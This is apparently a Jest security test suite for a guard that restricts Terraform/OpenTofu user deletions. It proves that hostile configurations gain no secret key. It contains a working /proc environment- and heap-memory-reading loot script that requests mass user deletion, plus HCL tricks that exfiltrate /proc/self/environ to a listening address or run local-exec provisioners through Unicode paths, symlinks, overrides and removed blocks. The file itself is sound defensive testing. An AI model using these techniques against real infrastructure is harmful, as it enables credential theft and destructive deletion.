import { chmodSync, cpSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { text } from "node:stream/consumers";
import { beforeEach, describe, expect, test } from "@jest/globals";
import { newFolder } from "../../support/at-end";
import { GUARD_VERSION, GuardHeader } from "../../../src/api/guard-connection";
import { seedUsers } from "../../support/emulator";
import { installProvider } from "../../../src/install";
import { declaredVariables, type Declaration } from "../../../src/payload/declaration";
import { AllowList, findPlanFault } from "../../../src/plan-gate";
import { parsePlan } from "../../../src/terraform-json";
import { UserIdType } from "../../../src/users";
import { applySet, check } from "../../support/acceptance/removal-case";
import { engines } from "../../support/engine/engines";
import { type Scenario, useScenarios } from "../../support/scenario";
import { guardLine, readAudit, readEnvironments } from "../../support/guard/guarded";
import { COMMAND_USER, filesHolding, giveTo, OTHER_USER, whenRoot } from "../../support/guard/second-user";
import { serveHttp } from "../../support/http-server";

/**
 * The ways in which hostile configurations were once walked past a check that read HCL, and some more. Under the guard, with the command as
 * a second user, each of them works, and yields nothing: no key, and nobody but the approved user.
 */

const pool = seedUsers(6);
const emails = pool.map(({ email }) => email ?? "");
const ENVIRON = "/proc/self/environ";

/** Shows that a way was open: what it was to find, run, send or change was within its reach, except for the key. */
type Evidence = "environment is read" | "program has run" | "environment is sent";

interface Way {
  readonly title: string;
  /** Files beside the configuration, by path. */
  readonly files: (target: Target) => Readonly<Record<string, string>>;
  /** Links, by path. */
  readonly links?: Readonly<Record<string, string>>;
  readonly evidence: Evidence;
  /** What an owner would have to allow, as the gate stops it otherwise. */
  readonly allow?: readonly string[];
  readonly only?: "OpenTofu";
  /** Whether init must run again, which it does under the guard, too. */
  readonly init?: boolean;
}

interface Target {
  readonly folder: string;
  /** Where an attacker listens. */
  readonly address: string;
}

/** Reads what a program can of all processes, and asks the guard to delete everybody, together and one by one. */
const LOOT = String.raw`
const fs = require("fs");
const http = require("http");
const { socket, host, version, users, folder } = JSON.parse(fs.readFileSync(__dirname + "/loot.json", "utf8"));
let loot = JSON.stringify(process.env);
for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  for (const name of ["environ", "cmdline"]) {
    try { loot += fs.readFileSync("/proc/" + pid + "/" + name, "latin1"); } catch {}
  }
  try {
    const heap = /^([0-9a-f]+)-([0-9a-f]+) .*\[heap\]$/m.exec(fs.readFileSync("/proc/" + pid + "/maps", "utf8"));
    const [from, to] = [parseInt(heap[1], 16), parseInt(heap[2], 16)];
    const buffer = Buffer.alloc(Math.min(to - from, 8e6));
    fs.readSync(fs.openSync("/proc/" + pid + "/mem", "r"), buffer, 0, buffer.length, from);
    loot += buffer.toString("latin1");
  } catch {}
}
const socketPath = process.env.GENAUTH_GUARD ?? socket;
const ask = (ids) => new Promise((resolve) => {
  const request = http.request({ socketPath, path: "/api/v3/delete-users-batch", method: "POST",
    headers: { "${GuardHeader.VERSION}": version, "${GuardHeader.HOST}": host, "content-type": "application/json" } },
    (response) => response.resume().on("end", resolve));
  request.on("error", resolve);
  request.end(JSON.stringify({ userIds: ids, options: { userIdType: "email" } }));
});
(async () => {
  await ask(users);
  for (const id of users) await ask([id]);
  fs.writeFileSync(folder + "/loot.txt", loot);
})();
`;

const RUN_LOOT = (folder: string) => `'${process.execPath}' '${folder}/loot.cjs'`;
const looter = ({ folder }: Target) =>
  `resource "terraform_data" "loot" {\n  provisioner "local-exec" {\n    command = ${JSON.stringify(RUN_LOOT(folder))}\n  }\n}\n`;
const output = (expression: string) => `output "x" {\n  value = ${expression}\n}\n`;
const HARMLESS = 'output "harmless" {\n  value = 1\n}\n';

/** A backend that asks an address for its credentials, with a file as what it knows of itself. */
function backend(address: string, file: string): string {
  return `terraform {
  backend "s3" {
    bucket                      = "x"
    key                         = "x"
    region                      = "us-east-1"
    endpoints                   = { sts = "${address}", s3 = "${address}" }
    skip_credentials_validation = true
    skip_metadata_api_check     = true
    skip_requesting_account_id  = true
    max_retries                 = 1
    assume_role_with_web_identity = {
      role_arn     = "arn:aws:iam::123456789012:role/x"
      session_name = "session"
      ${file}
    }
  }
}
`;
}

const NFD = "cafe\u0301";
const NFC = "caf\u00e9";
/** Composed by Unicode 16, as newer versions of Node.js do, and not by Unicode 15, as Go does. */
const DECOMPOSED = "\u{11382}\u{113c9}";
const COMPOSED = "\u{11383}";

const moduleCall = (source: string) => `module "m" {\n  source = "./${source}"\n}\n`;
const LOOTING_MODULE = ["provisioner=module.m.terraform_data.loot"];

const WAYS: readonly Way[] = [
  {
    title: "a module's folder in NFD beside the one in NFC that the engine reads",
    files: (target) => ({
      "call.tf": moduleCall(NFD),
      [`${NFD}/main.tf`]: HARMLESS,
      [`${NFC}/main.tf`]: looter(target),
    }),
    evidence: "program has run",
    allow: LOOTING_MODULE,
  },
  {
    title: "a module's folder with characters that Node.js composes, and Go does not",
    files: (target) => ({
      "call.tf": moduleCall(DECOMPOSED),
      [`${COMPOSED}/main.tf`]: HARMLESS,
      [`${DECOMPOSED}/main.tf`]: looter(target),
    }),
    evidence: "program has run",
    allow: LOOTING_MODULE,
  },
  {
    title: "a module's folder that is a link",
    files: (target) => ({ "call.tf": moduleCall("link"), "elsewhere/main.tf": looter(target) }),
    links: { link: "elsewhere" },
    evidence: "program has run",
    allow: LOOTING_MODULE,
  },
  {
    title: "a backend's argument in parentheses",
    files: ({ address }) => ({
      "backend.tf": backend(address, `("web_identity_token_file") = "${ENVIRON}"`),
    }),
    evidence: "environment is sent",
    init: true,
  },
  {
    title: "a backend's argument as a local value",
    files: ({ address }) => ({
      "backend.tf": `locals {\n  file = "${ENVIRON}"\n}\n${backend(address, "web_identity_token_file = local.file")}`,
    }),
    evidence: "environment is sent",
    init: true,
    only: "OpenTofu",
  },
  {
    title: "a backend's argument as a template in a template",
    files: ({ address }) => ({
      "backend.tf": backend(address, `"\${"web_identity_token_file"}" = "\${"${ENVIRON}"}"`),
    }),
    evidence: "environment is sent",
    init: true,
  },
  {
    title: "an import in JSON, whose strings are evaluated",
    files: () => ({
      "import.tf.json": JSON.stringify({
        resource: { terraform_data: { imported: {} } },
        import: [{ to: "terraform_data.imported", id: `\${base64encode(file("${ENVIRON}"))}` }],
      }),
    }),
    evidence: "environment is read",
  },
  {
    title: "providers of a module in JSON, whose strings are evaluated",
    files: () => ({
      "call.tf.json": JSON.stringify({
        provider: { genauth: [{ alias: "by", for_each: '${toset(["a"])}' }] },
        module: {
          m: { source: "./m", providers: { genauth: `genauth.by[file("${ENVIRON}") == "" ? "" : "a"]` } },
        },
      }),
      "m/main.tf.json": JSON.stringify({
        terraform: { required_providers: { genauth: { source: "terraform.local/genauth/genauth" } } },
        resource: { terraform_data: { x: { input: `\${file("${ENVIRON}")}` } } },
      }),
    }),
    evidence: "environment is read",
    only: "OpenTofu",
  },
  {
    title: "the state of the local backend as a template",
    files: () => ({ "x.tf": output(`templatefile("terraform.tfstate", { path = "${ENVIRON}" })`) }),
    evidence: "environment is read",
  },
  {
    title: "a file of variables that is a link",
    files: () => ({ "x.tf": HARMLESS }),
    links: { "x.auto.tfvars": ENVIRON },
    evidence: "environment is read",
  },
  {
    title: "a set of files through a link",
    files: () => ({
      "x.tf": output(readEnvironments("p")),
    }),
    links: { p: "/proc" },
    evidence: "environment is read",
  },
  {
    title: "a provisioner in an override",
    files: (target) => ({
      "x.tf": 'resource "terraform_data" "loot" {}\n',
      "override.tf": looter(target),
    }),
    evidence: "program has run",
    allow: ["provisioner=terraform_data.loot"],
  },
  {
    title: "a program that gives the key of the state's encryption",
    files: ({ folder }) => ({
      "encryption.tf": `terraform {\n  encryption {\n    key_provider "external" "x" {\n      command = ${JSON.stringify([process.execPath, "LOOT"]).replace("LOOT", `${folder}/loot.cjs`)}\n    }\n    method "aes_gcm" "x" {\n      keys = key_provider.external.x\n    }\n    state {\n      method = method.aes_gcm.x\n    }\n  }\n}\n`,
    }),
    evidence: "program has run",
    init: true,
    only: "OpenTofu",
  },
  {
    title: "a provisioner of a removed block, which no plan shows",
    files: ({ folder }) => ({
      "seed.tf": "",
      "x.tf": `removed {\n  from = terraform_data.seed\n  lifecycle {\n    destroy = true\n  }\n  provisioner "local-exec" {\n    when    = destroy\n    command = ${JSON.stringify(RUN_LOOT(folder))}\n  }\n}\n`,
    }),
    evidence: "program has run",
  },
];

const SECOND_USER = ["--user", COMMAND_USER, "--guard-user", OTHER_USER];

const seed = 'resource "terraform_data" "seed" {\n  input = "$${file(path)}"\n}\n';
const EVERYBODY = { users: emails, user_id_type: "email", max_deletions_percent: 100 };
const ONE_LESS = { ...EVERYBODY, users: emails.slice(1) };

whenRoot("under the guard, as a second user", () => {
  let address: string;
  let received = "";
  beforeEach(async () => {
    received = "";
    address = await serveHttp((request, response) => {
      void text(request).then((body) => {
        received += `${request.url ?? ""}\n${JSON.stringify(request.headers)}\n${decodeURIComponent(body)}\n`;
        response.writeHead(403).end();
      });
    });
  });

  const targetOf = ({ workspace }: Scenario): Target => ({ folder: workspace.folder, address });

  function prepareLoot({ workspace, emulator }: Scenario): void {
    const { GENAUTH_HOST: host } = emulator.environment();
    const loot = { host, version: GUARD_VERSION, users: emails, folder: workspace.folder };
    workspace.writeFiles({ "loot.cjs": LOOT, "loot.json": JSON.stringify(loot) });
  }

  /** Runs the engine under the guard. The approved plan deletes one user at most. */
  async function run({ workspace }: Scenario, options: readonly string[], ...args: [string, ...string[]]) {
    giveTo(workspace.folder, COMMAND_USER);
    return workspace.startUnder(guardLine(...options, ...SECOND_USER), ...args).finished;
  }

  /** Nobody else is gone, and nothing that the way reached holds the key. */
  function expectNothing({ workspace, emulator }: Scenario, printed: string): void {
    const left = emulator.pool.list().map(({ email }) => email);
    expect(left).toEqual(expect.arrayContaining(emails.slice(1)));
    const secret = emulator.accessKeySecret;
    const encoded = Buffer.from(secret).toString("base64").slice(0, -4);
    for (const held of [secret, encoded]) {
      expect(filesHolding(workspace.folder, held)).toEqual([]);
      expect(received).not.toContain(held);
      expect(printed).not.toContain(held);
    }
  }

  describe.each(engines())("on $name", (engine) => {
    const open = useScenarios(engine);
    const ways = WAYS.filter(({ only }) => only === undefined || only === engine.name);

    test.each(ways)("$title: the $evidence, and nothing is gained", async (way) => {
      const { files, links = {}, evidence, allow = [], init = false } = way;
      const scenario = await open({ emulator: { users: pool } });
      const { workspace } = scenario;
      workspace.write(EVERYBODY);
      workspace.writeFiles({ "seed.tf": seed });
      check(await workspace.apply(), { code: 0 });

      workspace.write(ONE_LESS);
      prepareLoot(scenario);
      for (const [path, content] of Object.entries(files(targetOf(scenario)))) {
        mkdirSync(dirname(join(workspace.folder, path)), { recursive: true });
        writeFileSync(join(workspace.folder, path), content);
      }
      for (const [path, to] of Object.entries(links)) symlinkSync(to, join(workspace.folder, path));
      let printed = "";
      if (init) {
        installProvider({ dir: workspace.folder });
        printed += (await run(scenario, ["--read-only"], "init", "-input=false", "-reconfigure")).text;
      } else if ("call.tf" in files(targetOf(scenario)) || "call.tf.json" in files(targetOf(scenario)))
        check(await workspace.run("get"), { code: 0 });

      const plan = await run(scenario, ["--read-only"], "plan", "-input=false", "-out=x.tfplan");
      printed += plan.text;
      if (plan.code === 0) {
        const json = JSON.stringify(await workspace.planJson("x.tfplan"));
        workspace.writeFiles({ "x.json": json });
        const fault = findPlanFault(parsePlan(json), new AllowList());
        if (allow.length > 0) expect(fault?.detail).toContain(`--allow ${allow[0] ?? ""}`);
        else expect(fault).toBeUndefined();
        const options = ["--plan", "x.json", ...allow.flatMap((entry) => ["--allow", entry])];
        printed += (await run(scenario, options, "apply", "-input=false", "x.tfplan")).text;
      }

      const isInFolder = (what: string) => filesHolding(workspace.folder, what).length > 0;
      const found = {
        "environment is read": () =>
          isInFolder("GENAUTH_GUARD=") ||
          isInFolder(Buffer.from("GENAUTH_GUARD=").toString("base64").slice(0, -4)) ||
          printed.includes("GENAUTH_GUARD=") ||
          printed.includes("x.auto.tfvars"),
        "program has run": () => filesHolding(workspace.folder, "GENAUTH_GUARD").includes("loot.txt"),
        "environment is sent": () => received.includes("GENAUTH_GUARD="),
      };
      expect({ isOpen: found[evidence](), printed }).toMatchObject({ isOpen: true });
      expectNothing(scenario, printed);
    });

    test("the same program, as the guard's own user, finds the key", async () => {
      const scenario = await open({ emulator: { users: pool } });
      const { workspace, emulator } = scenario;
      prepareLoot(scenario);
      workspace.write(EVERYBODY);
      workspace.writeFiles({ "x.tf": looter(targetOf(scenario)) });
      check(await workspace.plan("-out=x.tfplan"), { code: 2 });
      workspace.writeFiles({ "x.json": JSON.stringify(await workspace.planJson("x.tfplan")) });
      const line = guardLine("--plan", "x.json", "--allow", "provisioner=terraform_data.loot");
      await workspace.startUnder(line, "apply", "-input=false", "x.tfplan").finished;
      expect(filesHolding(workspace.folder, emulator.accessKeySecret)).toEqual(["loot.txt"]);
      expect(emulator.pool.size).toBe(pool.length);
    });

    test('a state with "Resources" in another case deletes nobody whom the plan did not show', async () => {
      const scenario = await open({ emulator: { users: pool } });
      const { workspace } = scenario;
      await applySet(workspace, EVERYBODY);
      const state = readFileSync(join(workspace.folder, "terraform.tfstate"), "utf8");
      workspace.write(ONE_LESS);
      check(await run(scenario, ["--read-only"], "plan", "-out=x.tfplan"), { code: 0 });
      workspace.writeFiles({ "x.json": JSON.stringify(await workspace.planJson("x.tfplan")) });

      workspace.write({ ...EVERYBODY, users: emails.slice(-1) });
      workspace.writeFiles({ "terraform.tfstate": state.replace('"resources"', '"Resources"') });
      // The folder of the stack is the command's user's, who could change a file there.
      const outside = newFolder();
      const options = ["--plan", "x.json", "--audit", join(outside, "audit.jsonl")];
      const applied = await run(scenario, options, "apply", "-input=false", "-auto-approve");
      check(applied, { code: 1, says: ["the guard did not send it: no approved plan deletes this user"] });
      expect(readAudit({ folder: outside })).toContainEqual(expect.objectContaining({ event: "refused" }));
      expectNothing(scenario, applied.text);
    });

    describe("with a null_resource", () => {
      const openNull = useScenarios(engine, "null_resource");

      /** A set of everybody, and the next configuration, whose payload or command is another one. */
      async function prepared(change: (configuration: string, folder: string) => string): Promise<Scenario> {
        const scenario = await openNull({ emulator: { users: pool } });
        const { workspace } = scenario;
        await applySet(workspace, EVERYBODY);
        workspace.write(ONE_LESS);
        prepareLoot(scenario);
        const { "main.tf.json": configuration = "" } = workspace.readConfiguration();
        workspace.writeFiles({ "main.tf.json": change(configuration, workspace.folder) });
        check(await run(scenario, ["--read-only"], "plan", "-out=x.tfplan"), { code: 0 });
        workspace.writeFiles({ "x.json": JSON.stringify(await workspace.planJson("x.tfplan")) });
        return scenario;
      }

      const declaration: Declaration = {
        format: 1,
        set: "stack/staff",
        userIdType: UserIdType.EMAIL,
        users: ONE_LESS.users.map((id) => [id, ""]),
        retainedIds: [],
        protectedUsers: {},
        maxDeletionsPercent: 100,
      };
      const declaring = (changed: Partial<Declaration>) => (configuration: string) =>
        Object.entries(declaredVariables({ ...declaration, ...changed })).reduce(
          (json, [name, value]) => json.replace(new RegExp(`("${name}": )"[^"]*"`), `$1"${value}"`),
          configuration,
        );
      const applyApproved = (scenario: Scenario) =>
        run(scenario, ["--plan", "x.json"], "apply", "-input=false", "x.tfplan");

      test("a payload that names a file of its own for the report replaces no file", async () => {
        const command = "genauth/cdktf-genauth";
        const scenario = await prepared(declaring({ driftReportFile: command }));
        const { folder } = scenario.workspace;
        const before = readFileSync(join(folder, command), "utf8");
        const applied = await applyApproved(scenario);
        check(applied, { code: 1, says: ["the drift report cannot be written to genauth/cdktf-genauth"] });
        expect(readFileSync(join(folder, command), "utf8")).toBe(before);
        expect(scenario.emulator.pool.size).toBe(pool.length);
        expectNothing(scenario, applied.text);
      });

      test("a payload of other users than the triggers show starts nothing", async () => {
        const scenario = await prepared(declaring({ users: [] }));
        const applied = await applyApproved(scenario);
        check(applied, {
          code: 1,
          says: [
            "other users for its command than its triggers show (null_resource.staff)",
            "Nothing was started.",
          ],
          neverSays: ["Destroying..."],
        });
        expect(scenario.emulator.pool.size).toBe(pool.length);
        expectNothing(scenario, applied.text);
      });

      test("a program in the place of the command runs, and gains nothing", async () => {
        const scenario = await prepared((configuration, folder) => {
          const command = join(folder, "genauth", "cdktf-genauth");
          cpSync(command, `${command}.original`);
          writeFileSync(command, `${RUN_LOOT(folder)}\n`);
          chmodSync(command, 0o755);
          return configuration;
        });
        const applied = await applyApproved(scenario);
        expect(filesHolding(scenario.workspace.folder, "GENAUTH_GUARD")).toContain("loot.txt");
        expectNothing(scenario, applied.text);
      });
    });
  });
});
